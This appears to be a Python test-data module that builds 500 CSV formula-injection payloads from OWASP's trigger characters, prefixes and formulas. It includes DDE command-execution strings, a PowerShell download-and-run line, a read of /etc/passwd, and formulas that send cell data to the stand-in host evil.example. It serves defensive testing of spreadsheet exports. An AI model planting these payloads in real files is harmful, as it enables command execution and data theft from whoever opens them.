"""500 texts that a spreadsheet might run: OWASP's signs, put together with forms and by hand."""

from itertools import product

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
BEFORE = ("", "  ", "\xa0", '"', "'", "\t", "\r", "\n", "\u200b", "\ufeff", "a;", 'a;"')
FORMS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"read me")',
    'IMPORTXML(CONCAT("http://evil.example/?x=",CONCATENATE(A2:E2)),"//a/a10")',
    'WEBSERVICE("http://evil.example/?x="&A1)',
)
KNOWN = (
    "=cmd|'/C powershell IEX(wget evil.example/p)'!A0",
    r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"!A0")',
    "='file:///etc/passwd'#$passwd.A1",
    '=IMAGE("https://evil.example/?x="&A1)',
    '=IMPORTFEED("http://evil.example/feed")',
    '=IMPORTHTML("http://evil.example/","table",1)',
    '=IMPORTRANGE("evil.example","Sheet1!A1")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "+2+5+cmd|' /C calc'!A0",
    "=-1+cmd|' /C calc'!A0",
    "a,=1+1",
    "a\t=1+1",
    "a|=1+1",
    'a",=1+1',
    'a","=1+1","b',
    "a\r\n=1+1",
    ' \t\r\n\u2060 "=1+1',
)
PAYLOADS = [
    *("".join(parts) for parts in product(BEFORE, SIGNS, FORMS)),
    *KNOWN,
]
